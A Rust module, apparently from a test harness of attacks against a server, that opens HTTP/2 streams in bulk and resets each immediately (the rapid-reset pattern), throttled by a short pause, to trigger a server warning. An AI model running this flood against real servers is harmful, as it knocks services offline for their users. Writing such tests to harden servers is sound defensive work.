//! Streams that are opened and reset at once, which the server warns of (findings B15).

use std::time::Duration;

use futures::future::join_all;
use h2::client::Builder;
use http::Method;
use tokio::time::sleep;

use crate::attacks::ground::Ground;

const CLIENTS: usize = 4;

/// How many streams a connection opens before the next one.
const STREAMS: usize = 200;

/// How long it rests before that, so that it does not take the processors away.
const PAUSE: Duration = Duration::from_millis(20);

/// Opens and resets streams.
pub(crate) async fn run(ground: Ground) {
    join_all((0..CLIENTS).map(|_| open_and_reset(&ground))).await;
}

async fn open_and_reset(ground: &Ground) {
    loop {
        sleep(PAUSE).await;
        let Some(connection) = ground.http2(&Builder::new()).await else {
            continue;
        };
        for _ in 0..STREAMS {
            let Ok(mut ready) = connection.requests.clone().ready().await else {
                break;
            };
            let request = ground.request(Method::GET, "/checkpoint");
            if let Ok((_, mut stream)) = ready.send_request(request, false) {
                stream.send_reset(h2::Reason::CANCEL);
            }
        }
    }
}
